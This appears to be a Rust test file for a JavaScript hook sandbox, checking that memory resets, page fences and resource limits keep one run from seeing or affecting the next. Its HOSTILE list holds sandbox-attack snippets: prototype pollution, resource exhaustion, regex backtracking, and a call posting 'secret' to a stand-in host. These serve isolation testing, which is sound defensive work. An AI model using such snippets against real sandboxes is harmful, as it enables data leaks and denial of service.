//! Tests of isolation that need access to the memory between two runs.

use std::sync::Arc;
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant};

use proptest::prelude::*;
use sha2::{Digest, Sha256};

use crate::limits::Limits;
use crate::run::{Failure, Stage};
use crate::sandbox::calls::{CallArgs, RunLimits, Sandbox};
use crate::sandbox::instance::{EngineArgs, Instance};
use crate::sandbox::result::{CallEnd, Status};
use crate::sandbox::snapshot::Snapshot;
use crate::sandbox::{hex, module, watch};

/// Script that reports everything observable: its counters, all reachable names, and the size and
/// contents of stack and fresh memory.
const PROBE: &[u8] = b"
    let n = 0;
    const names = (o) => Reflect.ownKeys(o).map(String);
    const depth = (n) => { try { return depth(n + 1); } catch { return n; } };
    export default (context) => ({ out: {
      n: ++n, r: Math.random(), now: Date.now(), depth: depth(0), global: names(globalThis),
      context: names(context), in: context.in, http: typeof context.http,
      builtin: names(globalThis).map((name) => {
        const it = globalThis[name];
        return Object(it) === it ? [name, names(it), it.prototype ? names(it.prototype) : 0] : name;
      }),
      fresh: new Uint8Array(20000).reduce((n, b) => n + b, 0), holes: Array(100).join(),
      left: [/(a)|b/.exec('b'), RegExp.$1, new Error('x').stack],
    } });";
const INPUT: &[u8] = br#"{"stage":"pre","in":{"text":"x"},"data":{}}"#;

fn given() -> CallArgs {
    CallArgs {
        now_ms: 0,
        seed: 7,
        cancelled: Default::default(),
        allowance: Default::default(),
    }
}

fn loaded() -> (Sandbox, Instance, Arc<Snapshot>) {
    loaded_by(true)
}

/// Loads the probe. `hash` enables hashing of the memory, which is slow for many runs.
fn loaded_by(hash: bool) -> (Sandbox, Instance, Arc<Snapshot>) {
    let limits = Limits {
        jobs: 500,
        ..Limits::default()
    };
    let sandbox = Sandbox::new(limits, hash).unwrap();
    let mut instance = sandbox.instance().unwrap();
    let hook = load(&sandbox, &mut instance, PROBE);
    (sandbox, instance, hook)
}

fn load(sandbox: &Sandbox, instance: &mut Instance, source: &[u8]) -> Arc<Snapshot> {
    let (report, snapshot) = sandbox.load(instance, source, &given());
    snapshot.unwrap_or_else(|| panic!("{report:?}"))
}

/// Result and traces of a run; the text is hashed because it is long.
type RunTrace = (String, u64, usize, Option<String>);

fn run(sandbox: &Sandbox, instance: &mut Instance, hook: &Arc<Snapshot>) -> RunTrace {
    let report = sandbox.run(instance, hook, Stage::Pre, INPUT, &given());
    assert!(report.console.is_empty() && report.console_dropped == 0);
    assert!(report.outbox.is_empty());
    assert!(
        instance.is_reusable(),
        "or fuel would count what memory costs to grow"
    );
    match report.ended {
        CallEnd::Returned(Status::Done, texts) => (
            hex(&Sha256::digest(&texts.text)),
            report.fuel,
            report.peak,
            report.memory_hash,
        ),
        other => panic!("{other:?}"),
    }
}

/// Scripts that try to be visible to the next run. The second field is `true` if the instance may
/// be used again. For a script that fails to load, loading is the attack.
const HOSTILE: &[(&str, bool, &str)] = &[
    (
        "fills the heap",
        true,
        "export default () => { globalThis.l = []; for (let i = 0; i < 90; i++) l.push(('secret' + i).repeat(100)); };",
    ),
    (
        "fills it while it is loaded",
        true,
        "globalThis.l = Array.from({ length: 80 }, (_, i) => 'secret'.repeat(150) + i); export default () => { l.reverse(); };",
    ),
    (
        "frees what it filled",
        true,
        "export default () => { for (let i = 0; i < 50; i++) new Uint8Array(30000).fill(i + 1); };",
    ),
    (
        "overflows the stack",
        true,
        "export default () => { const f = (s) => f(s) + s; f('secret'); };",
    ),
    (
        "catches that",
        true,
        "export default () => { const f = () => { try { f(); } catch {} }; f(); };",
    ),
    (
        "spoils every global",
        true,
        "export default () => { Object.prototype.secret = 1; for (const n of Object.getOwnPropertyNames(globalThis)) { const p = globalThis[n]?.prototype; try { p.secret = n; } catch {} try { globalThis[n] = 'secret'; } catch {} } };",
    ),
    (
        "freezes its world",
        true,
        "Object.seal(Array.prototype); Object.freeze(Object.prototype); Object.freeze(Math); export default () => ({ out: {} });",
    ),
    (
        "leaves jobs behind",
        true,
        "export default () => { const go = () => { Promise.resolve('secret').then(go); }; go(); return new Promise(() => {}); };",
    ),
    (
        "rejects and never handles",
        true,
        "export default () => { for (let i = 0; i < 40; i++) Promise.reject(new Error('secret')); };",
    ),
    (
        "says too much",
        true,
        "export default () => { for (let i = 0; i < 200; i++) console.log('secret'.repeat(300)); throw new HookStopException('secret'.repeat(900)); };",
    ),
    (
        "returns much",
        true,
        "export default () => ({ out: { l: 'secret'.repeat(3000) } });",
    ),
    (
        "returns a cycle",
        true,
        "export default () => { const out = {}; out.out = out; return { out }; };",
    ),
    (
        "posts",
        true,
        "export default ({ http }) => { http.post('https://secret.example', 'secret'); globalThis.http = http; };",
    ),
    (
        "is refused memory",
        true,
        "export default () => { try { new Uint8Array(1 << 29); } catch {} };",
    ),
    (
        "grows the memory",
        false,
        "export default () => { globalThis.l = new Uint8Array(4 << 20).fill(0xa5); };",
    ),
    (
        "grows it to the limit",
        false,
        "export default () => { const l = []; for (;;) l.push(new Uint8Array(1 << 18).fill(0xa5)); };",
    ),
    (
        "runs out of fuel",
        false,
        "export default () => { const l = []; for (;;) l.push('secret' + l.length), l.length %= 900; };",
    ),
    (
        "runs out of fuel in a built-in",
        false,
        "export default () => { /^(a+)+$/.test('a'.repeat(40) + 'b'); };",
    ),
    (
        "runs out of time",
        false,
        "export default () => { for (;;) globalThis.time = 'secret'; };",
    ),
    (
        "is cancelled",
        false,
        "export default () => { for (;;) globalThis.cancelled = 'secret'; };",
    ),
    ("cannot be parsed", true, "export default () => { 'secret'"),
    ("imports", true, "import 'secret'; export default () => {};"),
    (
        "fails while it is loaded",
        true,
        "globalThis.secret = new Array(5000).fill('secret'); throw secret; export default () => {};",
    ),
    (
        "never ends to be loaded",
        false,
        "globalThis.secret = []; for (;;) secret[secret.length % 5000] = 'secret'; export default () => {};",
    ),
];

/// Loads and runs one script. Returns `true` if the instance may be used again.
fn attack(sandbox: &Sandbox, instance: &mut Instance, what: &str, source: &str) -> bool {
    let (timed, cancelled) = (what == "runs out of time", what == "is cancelled");
    let with = CallArgs {
        cancelled: Arc::new(AtomicBool::new(cancelled)),
        allowance: RunLimits {
            fuel: (!timed && !cancelled).then_some(20_000_000),
            wall: timed.then_some(Duration::from_millis(1)),
            deadline: None,
            http: what == "posts",
        },
        ..given()
    };
    if let (_, Some(hook)) = sandbox.load(instance, source.as_bytes(), &given()) {
        let report = sandbox.run(instance, &hook, Stage::Pre, INPUT, &with);
        // Helps to diagnose a failure of this test.
        eprintln!("{what}: {:.200?}", report.ended);
    }
    instance.is_reusable()
}

/// Returns the whole memory as the next run of the hook finds it.
fn found<'a>(instance: &'a mut Instance, hook: &Arc<Snapshot>) -> &'a [u8] {
    instance.space.reset(hook, 1_000_000).unwrap();
    assert_eq!(instance.space.stack_pointer(), hook.stack_pointer());
    instance.space.bytes()
}

#[test]
fn s_24_no_script_leaves_traces_for_the_next_run() {
    watch(&module().unwrap().0).unwrap();
    let (sandbox, mut fresh, hook) = loaded();
    let first = run(&sandbox, &mut sandbox.instance().unwrap(), &hook);
    let clean = found(&mut fresh, &hook);
    let mut kept = sandbox.instance().unwrap();
    for &(what, reusable, source) in HOSTILE {
        // The next run follows directly, after a reset ahead for its hook, or for another hook.
        for ahead in 0..3 {
            assert_eq!(
                attack(&sandbox, &mut kept, what, source),
                reusable,
                "{what}"
            );
            if !reusable {
                break;
            }
            match ahead {
                0 => {}
                1 => kept.prepare(&hook),
                _ => kept.prepare(sandbox.base()),
            }
            assert_eq!(run(&sandbox, &mut kept, &hook), first, "{what}, {ahead}");
        }
        // Compare the bytes themselves, even if no run could follow.
        attack(&sandbox, &mut kept, what, source);
        let left = found(&mut kept, &hook);
        assert!(left[..clean.len()] == *clean, "{what}");
        assert!(left[clean.len()..].iter().all(|&byte| byte == 0), "{what}");
        if !reusable {
            kept = sandbox.instance().unwrap();
            assert_eq!(run(&sandbox, &mut kept, &hook), first, "{what}");
        }
    }
}

/// Overwrites every byte of the stack, of the engine's constants, of its objects and of the unused
/// heap, and the one mutable global, as a flaw in the engine might.
#[test]
fn s_24_a_run_does_not_depend_on_earlier_memory_contents() {
    let (sandbox, mut instance, hook) = loaded();
    let first = run(&sandbox, &mut instance, &hook);
    for mark in [0x00, 0xa5, 0xff] {
        instance.space.spoil(|memory| memory.fill(mark));
        assert_eq!(run(&sandbox, &mut instance, &hook), first);
    }
}

/// The snapshot of a hook does not contain memory that loading allocated and freed.
#[test]
fn s_24_memory_freed_during_loading_is_zeroed() {
    let (sandbox, mut instance, _) = loaded_by(false);
    let source = b"
        let l = [1, 2, 3].map((n) => ('se' + 'cret').repeat(300 * n));
        const kept = l.map((text) => text.length);
        l = null;
        export default () => ({ out: { kept } });";
    let hook = load(&sandbox, &mut instance, source);
    let memory = found(&mut instance, &hook);
    let secret = b"secretsecret";
    assert!(!memory.windows(secret.len()).any(|bytes| bytes == secret));
}

#[test]
fn a_run_reuses_memory_freed_during_loading() {
    let (sandbox, mut instance, _) = loaded_by(false);
    let source = b"
        let l = [];
        for (let n = 0; n < 10; n++) l.push('x'.repeat(9000));
        const kept = 'z'.repeat(3000);
        l = null;
        export default () => {
            const l = [kept];
            for (let n = 0; n < 10; n++) l.push('y'.repeat(8500 + n));
            return { out: { n: l.length } };
        };";
    let hook = load(&sandbox, &mut instance, source);
    // The initial memory has no room for the whole text after the loaded hook.
    assert!(hook.reach() + 10 * 8500 > instance.space.bytes().len());
    run(&sandbox, &mut instance, &hook);
}

/// Events between two runs of one hook.
#[derive(Debug, Clone)]
enum BetweenRuns {
    Run,
    RunOther,
    Load,
    Prepare,
    PrepareOther,
    /// Enough runs of a small hook to raise the fence around its pages.
    Fence,
    Write(usize, u8),
}

fn step() -> impl Strategy<Value = BetweenRuns> {
    prop_oneof![
        Just(BetweenRuns::Run),
        Just(BetweenRuns::RunOther),
        Just(BetweenRuns::Load),
        Just(BetweenRuns::Prepare),
        Just(BetweenRuns::PrepareOther),
        Just(BetweenRuns::Fence),
        (any::<usize>(), any::<u8>()).prop_map(|(at, byte)| BetweenRuns::Write(at, byte)),
    ]
}

/// Known memory contents let a reset skip comparisons; they are invalidated in time in every order
/// of events.
#[test]
fn s_24_a_run_is_the_same_after_any_order_of_resets_runs_and_loads() {
    let (sandbox, mut instance, hook) = loaded();
    let first = run(&sandbox, &mut instance, &hook);
    let other: &[u8] =
        b"const l = 'x'.repeat(9000); let n = 0; export default () => ({ out: { l, n: ++n } });";
    let other = load(&sandbox, &mut instance, other);
    let other_first = run(&sandbox, &mut instance, &other);
    let instance = std::cell::RefCell::new(instance);
    proptest!(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(24) }, |(steps in prop::collection::vec(step(), 1..8))| {
        let instance = &mut *instance.borrow_mut();
        for step in steps {
            match step {
                BetweenRuns::Run => prop_assert_eq!(&run(&sandbox, instance, &hook), &first),
                BetweenRuns::RunOther => prop_assert_eq!(&run(&sandbox, instance, &other), &other_first),
                BetweenRuns::Load => drop(load(&sandbox, instance, b"export default () => {};")),
                BetweenRuns::Prepare => instance.prepare(&hook),
                BetweenRuns::PrepareOther => instance.prepare(&other),
                BetweenRuns::Fence => drop(fenced(&sandbox, instance)),
                BetweenRuns::Write(at, byte) => instance.space.spoil(|memory| memory[at % memory.len()] = byte),
            }
        }
        prop_assert_eq!(&run(&sandbox, instance, &hook), &first);
    });
}

/// Runs a small hook until the fence is raised around its pages.
fn fenced(sandbox: &Sandbox, instance: &mut Instance) -> Arc<Snapshot> {
    let hook = load(sandbox, instance, b"export default () => ({ out: {} });");
    for _ in 0..100 {
        run(sandbox, instance, &hook);
        if instance.space.is_fenced() || !cfg!(target_os = "linux") {
            return hook;
        }
    }
    panic!("no fence");
}

/// A hook that meets the fence late is repeated within its original timeout.
#[test]
fn s_22_a_run_repeated_because_of_the_fence_keeps_its_timeout() {
    watch(&module().unwrap().0).unwrap();
    let limits = Limits {
        fuel: u64::MAX / 4,
        wall: Duration::from_secs(60),
        ..Limits::default()
    };
    let sandbox = Sandbox::new(limits, false).unwrap();
    let mut instance = sandbox.instance().unwrap();
    let source = b"export default ({ in: { forever } }) => {
        for (let n = 0; n < 3_000_000; n++);
        const fresh = [];
        for (let n = 0; n < 12; n++) fresh.push(new Uint8Array(4096).fill(1));
        while (forever);
        return { out: {} };
    };";
    let hook = load(&sandbox, &mut instance, source);
    let timed = |instance: &mut Instance, forever: bool, wall| {
        let with = CallArgs {
            allowance: RunLimits {
                wall,
                ..RunLimits::default()
            },
            ..given()
        };
        let input = format!(r#"{{"stage":"pre","in":{{"forever":{forever}}},"data":{{}}}}"#);
        let began = Instant::now();
        let report = sandbox.run(instance, &hook, Stage::Pre, input.as_bytes(), &with);
        (report.ended, began.elapsed())
    };
    // The machine may be busy, but not in every attempt.
    let in_time = (0..5).any(|_| {
        let (ended, until_fence) = timed(&mut instance, false, None);
        assert!(
            matches!(ended, CallEnd::Returned(Status::Done, _)),
            "{ended:?}"
        );
        let wall = until_fence * 4 / 3;
        // An instance whose fence has not learned the pages of this hook.
        let mut instance = sandbox.instance().unwrap();
        fenced(&sandbox, &mut instance);
        let (ended, taken) = timed(&mut instance, true, Some(wall));
        assert!(
            matches!(ended, CallEnd::Failed(Failure::Wall(had)) if had == wall),
            "{ended:?}"
        );
        taken < wall * 17 / 10
    });
    assert!(in_time, "no attempt kept its timeout");
}

#[cfg(target_os = "linux")]
#[test]
fn s_24_a_write_beyond_the_fence_traps_before_it_takes_effect() {
    let (sandbox, mut instance, _) = loaded_by(false);
    let hook = fenced(&sandbox, &mut instance);
    let with = EngineArgs {
        now_ms: 0.0,
        seed: 7,
        jobs: 100,
    };
    // A corrupted stack pointer is the only way to make the engine itself write anywhere: into the
    // deep stack, its constants, or the unused heap.
    let astray = |instance: &mut Instance, place: usize| {
        instance.space.reset(&hook, 1_000_000).unwrap();
        let put = instance.put(INPUT).unwrap().unwrap();
        instance.space.move_stack(place as i32);
        let read = instance.read(put);
        read.and_then(|_| instance.run(1_000_000, with, 1))
    };
    for place in [100 << 10, 300 << 10, 620 << 10] {
        instance.space.reset(&hook, 1_000_000).unwrap();
        let before = instance.space.bytes().to_vec();
        let page = place - (4 << 10)..place;
        let error = astray(&mut instance, place).unwrap_err();
        assert!(
            instance.space.bytes()[page.clone()] == before[page.clone()],
            "{place}"
        );
        // The address is known, so that page stays open.
        assert!(instance.space.met_fence(&error, false), "{error:?}");
        assert!(instance.space.is_fenced());
        // The second time, the whole memory is open.
        if let Err(error) = astray(&mut instance, place)
            && instance.space.met_fence(&error, true)
        {
            assert!(!instance.space.is_fenced());
            let _ = astray(&mut instance, place);
        }
        let after = &instance.space.bytes()[page.clone()];
        assert!(*after != before[page], "{place}");
        fenced(&sandbox, &mut instance);
    }
    // A reset repairs all of it.
    let first = run(&sandbox, &mut sandbox.instance().unwrap(), &hook);
    assert_eq!(run(&sandbox, &mut instance, &hook), first);
}

/// Scripts that write to fenced pages end as without a fence, and leave no traces.
#[cfg(target_os = "linux")]
#[test]
fn s_24_the_fence_does_not_change_results_or_memory() {
    watch(&module().unwrap().0).unwrap();
    let (sandbox, mut instance, probe) = loaded_by(false);
    let first = run(&sandbox, &mut sandbox.instance().unwrap(), &probe);
    let small = fenced(&sandbox, &mut instance);
    assert_eq!(run(&sandbox, &mut instance, &probe), first);
    for &(what, reusable, source) in HOSTILE {
        let tell = |instance: &mut Instance, hook: &Arc<Snapshot>| {
            let report = sandbox.run(instance, hook, Stage::Pre, INPUT, &given());
            (format!("{report:?}"), instance.space.bytes().to_vec())
        };
        // Elapsed time differs between runs.
        if ["runs out of time", "is cancelled"].contains(&what) {
            continue;
        }
        let (_, hook) = sandbox.load(&mut instance, source.as_bytes(), &given());
        if !instance.is_reusable() {
            instance = sandbox.instance().unwrap();
        }
        let Some(hook) = hook else { continue };
        let expected = tell(&mut sandbox.instance().unwrap(), &hook);
        // The fence belongs to another hook.
        let small = fenced(&sandbox, &mut instance);
        for _ in 0..2 {
            let (report, memory) = tell(&mut instance, &hook);
            assert_eq!(report, expected.0, "{what}");
            assert!(memory == expected.1, "{what}");
            assert_eq!(instance.is_reusable(), reusable, "{what}");
            if !reusable {
                instance = sandbox.instance().unwrap();
                fenced(&sandbox, &mut instance);
            }
        }
        run(&sandbox, &mut instance, &small);
    }
    // Run until the learned pages are forgotten and learned again.
    let trace = run(&sandbox, &mut instance, &small);
    let mut was_fenced = [false; 2];
    for _ in 0..300 {
        assert_eq!(run(&sandbox, &mut instance, &small), trace);
        was_fenced[usize::from(instance.space.is_fenced())] = true;
    }
    assert_eq!(was_fenced, [true; 2]);
    assert_eq!(run(&sandbox, &mut instance, &probe), first);
}

/// Control: without the reset, marks in memory do change a run. Otherwise the tests above could not
/// fail.
#[test]
fn s_24_without_a_reset_earlier_memory_contents_change_a_run() {
    let (_, mut instance, _) = loaded();
    let place = instance.put(INPUT).unwrap().unwrap();
    instance.space.spoil(|memory| memory.fill(0xa5));
    let with = EngineArgs {
        now_ms: 0.0,
        seed: 7,
        jobs: 100,
    };
    let run = instance
        .read(place)
        .and_then(|_| instance.run(1 << 30, with, 1));
    assert!(run.is_err());
}

#[test]
fn s_24_snapshots_of_a_hook_are_identical_on_every_instance() {
    let (sandbox, mut instance, one) = loaded();
    let (_, two) = sandbox.load(&mut instance, PROBE, &given());
    let (_, three) = sandbox.load(&mut sandbox.instance().unwrap(), PROBE, &given());
    for other in [two.unwrap(), three.unwrap()] {
        assert!(other.is_same(&one));
    }
}

/// The memory limit backs up the heap limit.
#[test]
fn s_22_memory_cannot_grow_beyond_the_memory_limit() {
    let (sandbox, mut instance, _) = loaded();
    let pages = (sandbox.limits().heap * 2).div_ceil(1 << 16) as u64;
    assert!(instance.space.grow(pages).is_err());
}
